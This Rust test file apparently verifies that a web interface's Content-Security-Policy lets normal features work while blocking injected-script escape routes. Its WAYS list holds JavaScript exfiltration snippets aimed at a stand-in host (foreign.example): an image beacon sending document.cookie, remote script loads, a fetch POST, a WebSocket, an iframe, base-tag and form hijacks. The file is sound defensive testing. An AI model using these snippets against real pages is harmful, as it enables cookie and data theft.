//! The Content-Security-Policy as a browser enforces it: what the stock interface does works, what
//! a script that got in would do next does not.

use anyhow::{Context as _, Result, ensure};

use super::chromium::{Chromium, is_installed};
use super::page::Page;
use super::stand::Stand;
use crate::program::{PATIENCE, until};

/// What stock does that a policy could forbid; each is true where it works.
const HABITS: [(&str, &str); 8] = [
    ("classes and templates from strings", "new Function('return 7')() === 7"),
    ("strings that are evaluated", "eval('3 + 4') === 7"),
    (
        "a style in the page",
        "(() => { const style = document.createElement('style'); \
         style.textContent = 'body { --own: 7 }'; document.head.append(style); \
         return getComputedStyle(document.body).getPropertyValue('--own').trim() === '7'; })()",
    ),
    (
        "a script in the page",
        "(() => { const script = document.createElement('script'); \
         script.textContent = 'globalThis.own = 7'; document.head.append(script); \
         return globalThis.own === 7; })()",
    ),
    (
        "an image in the text",
        "new Promise((done) => { const image = new Image(); image.onload = () => done(true); \
         image.onerror = () => done(false); \
         image.src = 'data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>'; })",
    ),
    (
        "an image out of memory",
        "new Promise((done) => { const image = new Image(); image.onload = () => done(true); \
         image.onerror = () => done(false); \
         const text = '<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"/>'; \
         image.src = URL.createObjectURL(new Blob([text], { type: 'image/svg+xml' })); })",
    ),
    (
        "WebAssembly, of which the mobile interface is made",
        "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true)",
    ),
    (
        "a worker out of memory",
        "new Promise((done) => { const text = new Blob(['postMessage(7)']); \
         const worker = new Worker(URL.createObjectURL(text)); worker.onerror = () => done(false); \
         worker.onmessage = () => { worker.terminate(); done(true); }; })",
    ),
];

/// Ways out of the page or into it, and the directive that closes each.
const WAYS: [(&str, &str); 9] = [
    ("img-src", "new Image().src = 'https://foreign.example/?' + document.cookie"),
    ("script-src-elem", "add('script', { src: 'https://foreign.example/x.js' })"),
    ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://foreign.example/x.css' })"),
    ("connect-src", "fetch('https://foreign.example/', { method: 'POST' }).catch(() => {})"),
    ("connect-src", "void new WebSocket('wss://foreign.example/')"),
    ("frame-src", "add('iframe', { src: 'https://foreign.example/' })"),
    ("object-src", "add('object', { data: '/favicon.ico' })"),
    ("base-uri", "add('base', { href: 'https://foreign.example/' })"),
    (
        "form-action",
        "(() => { add('iframe', { name: 'out' }); \
         const form = { action: 'https://foreign.example/', target: 'out' }; \
         add('form', form).submit(); })()",
    ),
];
const ADD: &str = "globalThis.add = (name, properties) => { const element = \
    Object.assign(document.createElement(name), properties); document.body.append(element); \
    return element; }";

#[test]
fn the_policy_lets_stock_live_and_nothing_else() -> Result<()> {
    if !is_installed() {
        return Ok(());
    }
    let stand = Stand::start("", "")?;
    let chromium = Chromium::start(&stand.home, &stand.keys)?;
    let page = chromium.page()?;
    page.open(&stand.url)?;
    for (what, habit) in HABITS {
        ensure!(page.js(habit)? == true, "{what} does not work");
    }
    page.nothing_wrong_but(&[])?;
    page.js(ADD)?;
    for (directive, way) in WAYS {
        page.js(&format!("{way}; null"))?;
        let refused = until(PATIENCE, || refusal(&page, directive));
        refused.with_context(|| format!("not refused by {directive}: {way}"))?;
    }

    // The same page without a gate: nothing is refused.
    let page = chromium.page()?;
    page.open(&stand.mock_url)?;
    page.js(ADD)?;
    for (_, way) in WAYS {
        page.js(&format!("{way}; null"))?;
    }
    let failed = "new Promise((done) => { const image = new Image(); \
        image.onerror = () => done(true); image.src = 'https://foreign.example/'; })";
    ensure!(page.js(failed)? == true, "a foreign image is there");
    let faults = page.faults()?;
    ensure!(!faults.iter().any(|fault| fault.contains("refused: ")), "{faults:#?}");
    chromium.end()?;
    stand.end()
}

fn refusal(page: &Page, directive: &str) -> Option<()> {
    let refused = format!("refused: \"{directive} ");
    page.faults().ok()?.iter().any(|fault| fault.starts_with(&refused)).then_some(())
}
